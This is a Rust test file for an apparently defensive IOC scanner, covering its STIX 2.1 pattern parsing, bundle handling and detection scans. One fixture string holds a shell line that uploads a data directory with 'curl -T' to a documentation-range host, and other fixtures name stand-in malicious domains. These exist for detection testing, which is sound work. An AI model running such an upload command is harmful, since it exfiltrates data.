//! STIX 2: every pattern of a table against objects of known facts, bundles as they are published, and scans.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;
use std::process::{Command, Stdio};
use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use wardround::analyze::{Analyzer, Findings, Head, IocAnalyzer, Whole};
use wardround::ioc::{IndicatorSet, Truth};
use wardround::model::{Digests, Input, Kind, Locator, Meta, Object, Time, Times, text};

use super::support::{Scene, corpus, has_tool};

const LOOT: &str = "seen: evil.example.com, 203.0.113.7 and http://bad.example.net/gate.php?x=1 yesterday\n";
const SCRIPT: &str = "#!/bin/sh\ncurl -T /srv/data 'http://[2001:db8::5]/'\n";

/// What the table expects.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Expected {
    Match,
    NoMatch,
    /// In force, and told with little weight because the object's digest is listed.
    Undecided,
    /// In force; what it says of this object is tested elsewhere.
    Loaded,
    /// In force without a part that can't be taken.
    LeftOut,
    /// A match, and a part that can't be answered.
    PartlyMatch,
    /// Needs an index that the content of registry hives, import hashes or e-mail addresses fill.
    Elsewhere,
    /// Nothing here can answer it.
    Unsupported,
    /// Good grammar, useless value.
    Refused,
    /// Not in the grammar.
    Invalid,
}

struct Row {
    expected: Expected,
    /// Whether the published grammar agrees that the pattern is (or isn't) valid.
    as_the_standard: bool,
    object: String,
    pattern: String,
}

fn rows() -> Vec<Row> {
    let table = include_str!("../fixtures/stix/patterns.tsv");
    let lines = table.lines().filter(|l| !l.is_empty() && !l.starts_with('#'));
    lines
        .map(|line| {
            let [word, object, pattern] = line.splitn(3, '\t').collect::<Vec<_>>().try_into().expect("three columns");
            let expected = match word.split('_').next().unwrap_or(word) {
                "match" => Expected::Match,
                "no" => Expected::NoMatch,
                "undecided" => Expected::Undecided,
                "loaded" => Expected::Loaded,
                "left" => Expected::LeftOut,
                "partly" => Expected::PartlyMatch,
                "elsewhere" => Expected::Elsewhere,
                "unsupported" => Expected::Unsupported,
                "refused" => Expected::Refused,
                "invalid" => Expected::Invalid,
                other => panic!("{other}"),
            };
            let as_the_standard = !word.ends_with("_loose") && !word.ends_with("_strict");
            Row { expected, as_the_standard, object: object.to_owned(), pattern: filled(pattern, object) }
        })
        .collect()
}

fn content(object: &str) -> Vec<u8> {
    match object {
        "lin" => SCRIPT.into(),
        "pe" => {
            let mut pe = include_bytes!("../fixtures/binary/pe_version.bin").to_vec();
            let at = u32::from_le_bytes(pe[0x3c..0x40].try_into().unwrap()) as usize + 8;
            pe[at..at + 4].copy_from_slice(&1_600_000_000u32.to_le_bytes());
            pe
        }
        _ => LOOT.into(),
    }
}

fn hexes(bytes: &[u8]) -> [String; 3] {
    [text::hex(&md5::Md5::digest(bytes)), text::hex(&sha1::Sha1::digest(bytes)), text::hex(&Sha256::digest(bytes))]
}

/// The pattern with the digests of the object's content, and of another one.
fn filled(pattern: &str, object: &str) -> String {
    let bytes = content(object);
    let [md5, sha1, sha256] = hexes(&bytes);
    let [other5, _, other256] = hexes(b"another content");
    let mut out = pattern.to_owned();
    for (name, value) in [
        ("{MD5}", md5.to_uppercase()),
        ("{SHA256}", sha256.to_uppercase()),
        ("{md5}", md5),
        ("{sha1}", sha1),
        ("{sha256}", sha256),
        ("{other5}", other5),
        ("{other256}", other256),
        ("{size}", bytes.len().to_string()),
        ("{section}", ".rsrc".into()),
        ("{stamp}", "2020-09-13T12:26:40Z".into()),
    ] {
        out = out.replace(name, &value);
    }
    out
}

fn indicator(n: usize, pattern: &str) -> Value {
    json!({ "type": "indicator", "spec_version": "2.1", "id": format!("indicator--{n}"), "pattern_type": "stix", "pattern": pattern })
}

fn bundle(objects: Vec<Value>) -> String {
    json!({ "type": "bundle", "id": "bundle--1", "objects": objects }).to_string()
}

fn load(content: &str) -> (IndicatorSet, Input) {
    let (set, mut reports) = IndicatorSet::from_contents(&[("feed.json", content.as_bytes())]).unwrap();
    (set, reports.remove(0))
}

/// What the analyzer says of one of the table's objects: ids of reasons, and statements of patterns that it fits.
fn examine(set: &Arc<IndicatorSet>, object: &str) -> (Vec<String>, BTreeMap<u32, BTreeSet<u32>>) {
    let analyzer = IocAnalyzer::new(Arc::clone(set));
    let mut worker = analyzer.worker();
    let mut out = Findings::default();
    let path = match object {
        "dir" => r"C:\PerfLogs\stage",
        "lin" => "/srv/data/run.sh",
        "pe" => r"C:\ProgramData\panel.cpl",
        _ => r"C:\ProgramData\stage\Loot.7z",
    };
    let locator = Locator::os(path);
    let mtime = Some(Time::from_seconds(1_767_323_045));
    let meta = Meta { times: Times { mtime, ..Times::default() }, ..Meta::default() };
    if object == "dir" {
        worker.name_only(&Object::new(locator, Kind::Dir, meta), &mut out);
    } else {
        let bytes = content(object);
        let head = || Head {
            locator: &locator,
            kind: Kind::File,
            meta: &meta,
            origin: None,
            other_names: &[],
            containers: &[],
            bytes: &bytes,
            file_type: "",
            held: true,
        };
        let digests = Digests {
            sha256: Some(Sha256::digest(&bytes).into()),
            sha1: Some(sha1::Sha1::digest(&bytes).into()),
            md5: Some(md5::Md5::digest(&bytes).into()),
            crc32: None,
        };
        worker.begin(&head());
        worker.feed(0, &bytes);
        worker.finish(&Whole::new(head(), bytes.len() as u64, &digests, 0, Some(&bytes)), &mut out);
    }
    let mut held: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
    for s in out.sightings {
        held.entry(s.pattern).or_default().insert(s.part);
    }
    (out.evidence.into_iter().flat_map(|e| e.reasons).map(|r| r.id).collect(), held)
}

#[test]
fn the_table() {
    let rows = rows();
    assert!(rows.len() >= 150, "{}", rows.len());
    let mut wrong = Vec::new();
    for row in &rows {
        let (set, report) = load(&bundle(vec![indicator(1, &row.pattern)]));
        let set = Arc::new(set);
        let (ids, held) = examine(&set, &row.object);
        let joined = set.patterns().iter().zip(0u32..).any(|(p, n)| held.get(&n).is_some_and(|h| p.value(h) == Truth::True));
        let told = ids.iter().any(|id| id != "indicator.undecided") || joined;
        let why = report.rejected.first().map(|r| r.why.clone()).unwrap_or_default();
        let loaded = report.loaded == 1 && report.rejected.is_empty() && report.unanswered.is_empty();
        let nothing = report.loaded == 0 && ids.is_empty() && held.is_empty();
        let rejected = nothing && report.rejected.len() == 1 && report.unanswered.is_empty();
        let grammar = why.starts_with("its pattern can't be read: at character ");
        let good = match row.expected {
            Expected::Match => loaded && told,
            Expected::NoMatch => loaded && ids.is_empty() && !joined,
            Expected::Undecided => loaded && ids == ["indicator.undecided"],
            Expected::Loaded => loaded,
            Expected::LeftOut => loaded && told && report.adjusted.iter().any(|a| a.why.contains("left out")),
            Expected::PartlyMatch => loaded && told && report.partly.len() == 1,
            Expected::Elsewhere => loaded || (rejected && (why.contains("has no index") || why.contains("an e-mail address"))),
            Expected::Unsupported => nothing && report.rejected.is_empty() && report.unanswered.len() == 1,
            Expected::Refused => rejected && !grammar,
            Expected::Invalid => rejected && grammar,
        };
        if !good {
            let report = (report.loaded, &report.rejected, &report.unanswered, &report.partly);
            wrong.push(format!("{:?} {}\n  {report:?} {ids:?} joined: {joined}", row.expected, row.pattern));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), rows.len(), wrong.join("\n"));
}

#[test]
fn every_answer_is_in_the_table() {
    let rows = rows();
    for (expected, least) in [
        (Expected::Match, 60),
        (Expected::NoMatch, 25),
        (Expected::Unsupported, 50),
        (Expected::Refused, 30),
        (Expected::Invalid, 40),
        (Expected::Undecided, 3),
    ] {
        let n = rows.iter().filter(|r| r.expected == expected).count();
        assert!(n >= least, "{expected:?}: {n}");
    }
}

/// The published grammar, through the validator of the standard's own committee (`stix2-patterns`).
///
/// Differences are marked in the table. Looser here: keywords in any case, hash names with hyphens or in double
/// quotes, a backslash that escapes nothing, START and STOP of STIX 2.0. Stricter here: START after STOP and
/// days that no month has. The validator also looks at the values of hashes, which is no question of grammar: such
/// patterns are refused here for the same reason.
#[test]
fn the_grammar_is_that_of_the_standard() {
    if !has_tool("python3") {
        return;
    }
    let script = "import sys, json\nfrom stix2patterns.validator import run_validator\n\
                  wrong = lambda p: [e for e in run_validator(p, stix_version='2.1') if 'is not a valid' not in e]\n\
                  print(json.dumps([not wrong(p) for p in json.load(sys.stdin)]))";
    let mut python = Command::new("python3");
    let mut child =
        python.args(["-c", script]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let rows = rows();
    let patterns: Vec<&str> = rows.iter().map(|r| r.pattern.as_str()).collect();
    let sent = child.stdin.take().unwrap().write_all(&serde_json::to_vec(&patterns).unwrap());
    let output = child.wait_with_output().unwrap();
    if sent.is_err() || !output.status.success() {
        let why = String::from_utf8_lossy(&output.stderr);
        assert!(why.contains("No module named 'stix2patterns'"), "{why}");
        eprintln!("skipped: the Python package stix2-patterns is not installed");
        return;
    }
    let valid: Vec<bool> = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(valid.len(), rows.len());
    assert!(valid.contains(&true) && valid.contains(&false));
    let ours = |r: &Row| r.expected != Expected::Invalid;
    let differ = |(r, v): &(&Row, &bool)| (ours(r) == **v) != r.as_the_standard;
    let wrong: Vec<&str> = rows.iter().zip(&valid).filter(differ).map(|(r, _)| r.pattern.as_str()).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn marks_names_and_versions() {
    let id = |kind: &str, n: u32| format!("{kind}--{n}");
    let pattern = |n: u32| format!("[file:name = 'n{n}.exe']");
    let objects = json!([
        { "type": "indicator", "id": id("indicator", 1), "pattern": pattern(1), "modified": "2020-01-01T00:00:00Z", "name": "old" },
        { "type": "indicator", "id": id("indicator", 1), "pattern": pattern(1), "modified": "2020-01-01T00:00:00.5Z",
          "valid_from": "2019-01-01T00:00:00Z", "valid_until": "2020-06-01T00:00:00Z", "confidence": 40, "revoked": false,
          "labels": ["malicious-activity"], "indicator_types": ["malicious-activity", "compromised"],
          "object_marking_refs": ["marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da", id("marking-definition", 9)],
          "external_references": [{ "source_name": "x", "url": "https://example.com/report" }] },
        { "type": "indicator", "id": id("indicator", 2), "pattern": pattern(2), "revoked": true, "confidence": 95, "description": "second" },
        { "type": "indicator", "id": id("indicator", 3), "pattern": pattern(3), "indicator_types": ["benign"], "confidence": "high" },
        { "type": "indicator", "pattern": pattern(4) },
        { "type": "malware", "id": id("malware", 1), "name": "Stealer\u{202e}" },
        { "type": "attack-pattern", "id": id("attack-pattern", 1), "name": "Exfiltration to Cloud Storage",
          "external_references": [{ "source_name": "mitre-attack", "external_id": "T1567.002" }] },
        { "type": "relationship", "relationship_type": "indicates", "source_ref": id("indicator", 1), "target_ref": id("malware", 1) },
        { "type": "relationship", "relationship_type": "indicates", "source_ref": id("indicator", 1), "target_ref": id("attack-pattern", 1) },
        { "type": "relationship", "relationship_type": "indicates", "source_ref": id("indicator", 2), "target_ref": id("malware", 77) },
        { "type": "report", "id": id("report", 1), "name": "Case 7", "object_refs": [id("indicator", 1), id("indicator", 3)] },
        { "type": "marking-definition", "id": id("marking-definition", 9), "name": "TLP:AMBER+STRICT",
          "extensions": { "extension-definition--60a3c5c5-0d10-413e-aab3-9e08dde9e88d": { "extension_type": "property-extension", "tlp_2_0": "amber+strict" } } },
        { "type": "observed-data", "id": "observed-data--1", "objects": { "0": { "type": "file", "name": "seen.exe" } } },
    ]);
    let (set, report) = load(&bundle(objects.as_array().unwrap().clone()));
    assert_eq!((report.loaded, report.rejected.len()), (4, 1), "{report:?}");
    assert!(report.rejected[0].why.contains("another version") && report.rejected[0].place == "feed.json#indicator--1");
    assert!(report.adjusted.iter().any(|a| a.why.contains("confidence")));
    let all: Vec<_> = (0..4).filter_map(|n| set.get(n)).collect();
    let first = all[0].marks.as_ref().unwrap();
    assert_eq!(all[0].description.as_ref(), "Stealer\\u{202e}, Exfiltration to Cloud Storage, Case 7");
    assert_eq!((first.tlp.as_deref(), first.confidence, all[0].score), (Some("amber+strict"), Some(40), 40));
    assert_eq!(first.valid_until.as_deref(), Some("2020-06-01T00:00:00Z"));
    assert_eq!(first.labels, ["malicious-activity", "compromised", "T1567.002"]);
    assert_eq!(first.references, ["https://example.com/report"]);
    assert_eq!(all[0].techniques(), ["T1567.002"]);
    assert_eq!((all[1].score, all[1].description.as_ref(), all[1].marks.as_ref().unwrap().revoked), (15, "second", true));
    assert_eq!((all[2].score, all[2].description.as_ref()), (-100, "Case 7"));
    assert_eq!((all[3].score, all[3].source().as_str()), (75, "feed.json#object 5"));
}

#[test]
fn other_languages_and_empty_bundles() {
    let of = |kind: &str, pattern: &str| json!({ "type": "indicator", "id": format!("indicator--{kind}"), "pattern_type": kind, "pattern": pattern });
    let (set, report) = load(&bundle(vec![
        of("yara", "rule r { condition: false }"),
        of("sigma", "title: x"),
        of("snort", "alert tcp"),
        json!({ "type": "indicator", "id": "indicator--none", "pattern_type": "stix" }),
        json!({ "type": "indicator", "id": "indicator--list", "pattern": ["x"] }),
    ]));
    assert_eq!((report.loaded, report.unanswered.len(), report.rejected.len()), (1, 2, 2), "{report:?}");
    assert_eq!(set.rules(), [("feed.json#indicator--yara".to_owned(), b"rule r { condition: false }".to_vec())]);
    assert!(report.unanswered[0].why.contains("sigma"));
    let (_, report) = load(&bundle(vec![json!({ "type": "file", "name": "x" }), json!({ "type": "malware", "name": "y" })]));
    assert_eq!(report.rejected[0].why, "a STIX bundle without indicators (2 objects)");
    // Negative control: other JSON is not taken for STIX.
    let (_, report) = load(r#"{"Event":{"Attribute":[{"type":"stix2-pattern","to_ids":true,"value":"[file:name='x']"}]}}"#);
    assert_ne!(report.kind.as_deref(), Some("stix2"));
}

/// Indicators of every file as the corpus's manifest counts them.
#[test]
fn the_corpus_adds_up() {
    let Some(corpus) = corpus() else { return };
    let manifest = std::fs::read_to_string(corpus.join("MANIFEST.tsv")).unwrap();
    let (mut total, mut loaded, mut unanswered, mut rejected) = (0, 0, 0, 0);
    for line in manifest.lines().filter(|l| l.contains("kind=stix2;")) {
        let path = line.split('\t').next().unwrap();
        let expected: usize = line.split(';').find_map(|f| f.strip_prefix("indicators=")).unwrap().parse().unwrap();
        let (_, reports) = IndicatorSet::load(&[corpus.join(path)], false).unwrap();
        let [report] = reports.as_slice() else { panic!("{path}") };
        assert_eq!(report.kind.as_deref(), Some("stix2"), "{path}");
        total += expected;
        if expected == 0 {
            assert!(report.rejected[0].why.starts_with("a STIX bundle without indicators"), "{path}");
            continue;
        }
        let sum = report.loaded as usize + report.unanswered.len() + report.rejected.len();
        assert_eq!(sum, expected, "{path}: {:?}", report.rejected);
        loaded += report.loaded as usize;
        unanswered += report.unanswered.len();
        rejected += report.rejected.len();
        // A word in place of a domain in a published list; e-mail addresses where the address reader has none.
        for r in &report.rejected {
            assert!(r.why.starts_with("\"despachosnegocios\"") || r.why.contains("an e-mail address"), "{}: {}", r.place, r.why);
        }
    }
    println!("{total} indicators: {loaded} loaded, {unanswered} unanswered, {rejected} rejected");
    assert_eq!(total, 1484);
    assert_eq!(loaded + unanswered + rejected, 1484);
    // 21 apps and 8 of their certificates, 2 processes, 1 profile, 2 e-mail messages.
    assert_eq!(unanswered, 34);
    assert!(loaded >= 1413, "{loaded}");
}

mod scans {
    use super::*;

    fn with_feed(scene: &Scene, objects: Vec<Value>) -> super::super::support::Case {
        let feed = scene.beside("feed.json");
        std::fs::write(&feed, bundle(objects)).unwrap();
        scene.scan(&["--no-default-iocs", "--ioc", feed.to_str().unwrap()])
    }

    fn of<'a>(case: &'a super::super::support::Case, name: &str) -> Option<&'a Value> {
        case.of("ioc").into_iter().find(|f| f.to_string().contains(name))
    }

    #[test]
    fn an_and_is_never_flattened() {
        let scene = Scene::new();
        scene.file("bad/stage.exe", "loot one");
        scene.file("good/renamed.exe", "loot one");
        scene.file("vendor/tool.exe", "loot two");
        scene.file("temp/tool.exe", "loot two");
        let [one, two] = ["loot one", "loot two"].map(|c| hexes(c.as_bytes())[2].clone());
        let case = with_feed(
            &scene,
            vec![
                indicator(1, &format!("[file:hashes.'SHA-256' = '{one}' AND file:name = 'stage.exe']")),
                indicator(
                    2,
                    &format!("[file:hashes.'SHA-256' = '{two}' AND file:parent_directory_ref.path NOT LIKE '%/vendor']"),
                ),
            ],
        );
        assert!(of(&case, "bad/stage.exe").is_some() && of(&case, "temp/tool.exe").is_some());
        assert!(of(&case, "renamed.exe").is_none() && of(&case, "vendor/tool.exe").is_none(), "{:?}", case.of("ioc"));
        case.assert_adds_up();
    }

    #[test]
    fn two_observations_are_joined_over_the_host() {
        let scene = Scene::new();
        scene.file("a/first.bin", "part one");
        scene.file("b/second.bin", "part two");
        let [one, two, three] = ["part one", "part two", "part three"].map(|c| hexes(c.as_bytes())[2].clone());
        let both = |a: &str, b: &str| format!("[file:hashes.'SHA-256' = '{a}'] AND [file:hashes.'SHA-256' = '{b}']");
        let case = with_feed(&scene, vec![indicator(1, &both(&one, &two))]);
        assert!(of(&case, "first.bin").is_some() && of(&case, "second.bin").is_some(), "{:?}", case.findings());
        let case = with_feed(&scene, vec![indicator(1, &both(&one, &three))]);
        assert!(case.of("ioc").is_empty(), "{:?}", case.findings());
    }

    #[test]
    fn withdrawn_undecided_and_expired() {
        let scene = Scene::new();
        for name in ["revoked", "open", "expired"] {
            scene.file(&format!("{name}.bin"), format!("content of {name}"));
        }
        let hash = |name: &str| hexes(format!("content of {name}").as_bytes())[2].clone();
        let mut revoked = indicator(1, &format!("[file:hashes.'SHA-256' = '{}']", hash("revoked")));
        revoked["revoked"] = true.into();
        let open = format!("[file:hashes.'SHA-256' = '{}' AND domain-name:value = 'absent.example.com']", hash("open"));
        let mut expired = indicator(3, &format!("[file:hashes.'SHA-256' = '{}']", hash("expired")));
        expired["valid_until"] = "2021-01-01T00:00:00Z".into();
        let case = with_feed(&scene, vec![revoked, indicator(2, &open), expired]);
        for name in ["revoked.bin", "open.bin"] {
            let finding = of(&case, name);
            assert!(finding.is_none_or(|f| f["level"] == "info"), "{finding:?}");
        }
        assert!(of(&case, "open.bin").is_some_and(|f| f.to_string().contains("indicator.undecided")));
        let finding = of(&case, "expired.bin").expect("a match outside of the window counts");
        assert!(finding.to_string().contains("2021-01-01T00:00:00Z"), "{finding}");
    }
}

#[test]
fn objects_of_odd_shapes_hide_no_other() {
    let good = |n: usize| indicator(n, &format!("[file:name = 'odd-name-{n}.exe']"));
    for bad in [
        json!({"type": "indicator"}),
        json!({"type": "indicator", "id": 5, "pattern": ["x"]}),
        json!({"type": "indicator", "id": "indicator--x", "pattern": "[", "confidence": "high", "labels": 5}),
        json!(null),
        json!([[[[[]]]]]),
        json!({"type": "relationship", "source_ref": null}),
        json!({"objects": {"objects": 1}}),
    ] {
        let (_, report) = load(&bundle(vec![good(1), bad.clone(), good(2)]));
        assert_eq!(report.loaded, 2, "{bad}");
    }
    let lines = format!("{}\nno json\n{}\n", good(1), good(2));
    let (_, report) = load(&lines);
    assert_eq!((report.loaded, report.rejected.len()), (2, 1));
}

#[test]
fn what_the_author_says_reaches_the_finding() {
    let scene = Scene::new();
    scene.file("a/odd-agent.bin", b"x");
    scene.file("a/withdrawn-agent.bin", b"y");
    let objects = json!({"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "id": "indicator--1", "name": "agent", "pattern_type": "stix", "confidence": 85,
         "pattern": "[file:name = 'odd-agent.bin']", "valid_from": "2020-01-01T00:00:00Z", "valid_until": "2021-01-01T00:00:00Z",
         "object_marking_refs": ["marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"], "labels": ["malicious-activity"]},
        {"type": "indicator", "id": "indicator--2", "pattern_type": "stix", "pattern": "[file:name = 'withdrawn-agent.bin']", "revoked": true},
        {"type": "malware", "id": "malware--1", "name": "OddRAT",
         "external_references": [{"source_name": "mitre-attack", "external_id": "T1105"}]},
        {"type": "relationship", "id": "relationship--1", "relationship_type": "indicates", "source_ref": "indicator--1", "target_ref": "malware--1"},
    ]});
    let list = scene.beside("bundle.json");
    std::fs::write(&list, objects.to_string()).expect("a bundle");
    let case = scene.scan(&["--ioc", list.to_str().expect("text"), "--no-default-iocs", "--no-default-rules"]);
    let found = case.of("ioc");
    let agent = found.iter().find(|f| f["path"].as_str().is_some_and(|p| p.ends_with("odd-agent.bin"))).expect("a finding");
    let marks = &agent["reasons"][0]["detail"]["marks"];
    assert_eq!(agent["score"], 85);
    assert_eq!(agent["techniques"], json!(["T1105"]));
    assert_eq!((&marks["tlp"], &marks["confidence"]), (&json!("amber"), &json!(85)));
    assert_eq!((&marks["valid_from"], &marks["valid_until"]), (&json!("2020-01-01T00:00:00Z"), &json!("2021-01-01T00:00:00Z")));
    assert_eq!(marks["indicates"], json!(["OddRAT"]));
    let withdrawn =
        found.iter().find(|f| f["path"].as_str().is_some_and(|p| p.ends_with("withdrawn-agent.bin"))).expect("a finding");
    assert_eq!((&withdrawn["level"], &withdrawn["reasons"][0]["detail"]["marks"]["revoked"]), (&json!("info"), &json!(true)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Whatever one indicator holds, those around it are loaded.
    #[test]
    fn one_bad_indicator_hides_no_other(pattern in "[\\[\\]()'=:.*,A-Za-z \\\\0-9]{0,60}") {
        let good = |n| indicator(n, &format!("[file:name = 'good{n}.exe']"));
        let (set, report) = load(&bundle(vec![good(1), indicator(2, &pattern), good(3)]));
        prop_assert!(report.loaded >= 2);
        prop_assert_eq!(report.loaded as usize + report.rejected.len() + report.unanswered.len(), 3);
        let _ = examine(&Arc::new(set), "win");
    }

    #[test]
    fn mutated_patterns_never_panic(n in 0usize..1000, at in 0usize..200, with in "[\\[\\]()'=.*\\\\%_é\u{0}]{0,3}", cut in 0usize..5) {
        let rows = rows();
        let pattern = &rows[n % rows.len()].pattern;
        let at = pattern.char_indices().map(|(i, _)| i).nth(at % pattern.chars().count().max(1)).unwrap_or(0);
        let rest: String = pattern[at..].chars().skip(cut).collect();
        let (set, report) = load(&bundle(vec![indicator(1, &format!("{}{with}{rest}", &pattern[..at]))]));
        prop_assert_eq!(report.loaded as usize + report.rejected.len() + report.unanswered.len(), 1);
        let _ = examine(&Arc::new(set), "pe");
    }

    #[test]
    fn mutated_bundles_never_panic(at in 0usize..4000, with in "[\\[\\]{}\":,a-z0-9\\\\]{0,4}", cut in 0usize..40) {
        let text = include_str!("../fixtures/ioc/stix2.json");
        let at = (0..=at % text.len()).rev().find(|i| text.is_char_boundary(*i)).unwrap_or(0);
        let rest: String = text[at..].chars().skip(cut).collect();
        let (_, report) = load(&format!("{}{with}{rest}", &text[..at]));
        prop_assert!(report.loaded > 0 || !report.rejected.is_empty() || !report.unanswered.is_empty());
    }
}

/// A deep or endless pattern costs itself.
#[test]
fn budgets() {
    let many: Vec<String> = (0..20_000u32).map(|n| format!("file:hashes.MD5 = '{}'", hexes(&n.to_le_bytes())[0])).collect();
    let deep = format!("[{}file:name = 'x'{}]", "(".repeat(3000), ")".repeat(3000));
    let nested = (0..40).fold("file:name = 'x'".to_owned(), |p, n| format!("({p} AND file:size > {n} OR file:name = 'y')"));
    let patterns = [format!("[{}]", many.join(" OR ")), deep, format!("[{nested}]")];
    let objects = patterns.iter().enumerate().map(|(n, p)| indicator(n, p)).collect();
    let (_, report) = load(&bundle(objects));
    assert_eq!((report.loaded, report.rejected.len()), (1, 2), "{:?}", report.rejected);
    assert!(report.rejected.iter().all(|r| r.why.contains("levels deep")));
}
